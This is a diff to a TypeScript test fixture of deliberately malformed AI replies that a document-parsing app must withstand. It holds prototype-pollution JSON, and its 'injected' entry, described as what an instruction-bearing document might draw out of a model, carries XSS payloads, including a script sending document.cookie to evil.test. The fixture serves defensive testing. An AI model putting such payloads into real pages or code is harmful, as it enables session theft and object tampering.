@@ -19,7 +19,16 @@ export const AI_REPLIES = {
   }),
   polluted: `{"prompts": [{"__proto__": {"polluted": true}, "title": "Письмо", "promptText": "${TEXT}", "constructor": {"prototype": {"polluted": true}}}, "строка", null, 5, {"title": "Без текста"}, {"title": "Повтор", "promptText": "${TEXT.toUpperCase()}"}]}`,
   /** What a document that gives orders might get out of a model. */
-  injected: JSON.stringify({ prompts: [{ title: "<img src=x onerror=alert(1)>", promptText: "<script>fetch('//evil.test?'+document.cookie)</script> и ещё текст", category: "<b>HR</b>", tags: ["<i>tag</i>"] }] }),
+  injected: JSON.stringify({
+    prompts: [
+      {
+        title: "<img src=x onerror=alert(1)>",
+        promptText: "<script>fetch('//evil.test?'+document.cookie)</script> и ещё текст",
+        category: "<b>HR</b>",
+        tags: ["<i>tag</i>"],
+      },
+    ],
+  }),
   fenced: block(`\`\`\`json\n${ROWS}\n\`\`\``),
   fencedOutside: `Готово.\n\n\`\`\`\n<structured_data>${ROWS}</structured_data>\n\`\`\``,
   twoBlocks: `${block(ROWS)}\n\nИ ещё:\n\n${block('{"documentType": "word", "title": "Второй", "content": "Текст"}')}`,
@@ -27,6 +36,8 @@ export const AI_REPLIES = {
   trailingComma: block('{"documentType": "excel", "headers": ["А"], "data": [[1],]}'),
   longRows: block('{"documentType": "excel", "headers": ["А"], "data": [[1, 2, 3], [4]]}'),
   manyRows: block(`{"documentType": "excel", "headers": ["А"], "data": [${"[1],".repeat(400_000)}[1]]}`),
-  manyColumns: block(JSON.stringify({ documentType: "excel", headers: Array.from({ length: 120 }, (_, at) => `К${at}`), data: [Array.from({ length: 120 }, (_, at) => at)] })),
+  manyColumns: block(
+    JSON.stringify({ documentType: "excel", headers: Array.from({ length: 120 }, (_, at) => `К${at}`), data: [Array.from({ length: 120 }, (_, at) => at)] }),
+  ),
   notData: block("тут должна быть таблица"),
 } as const;
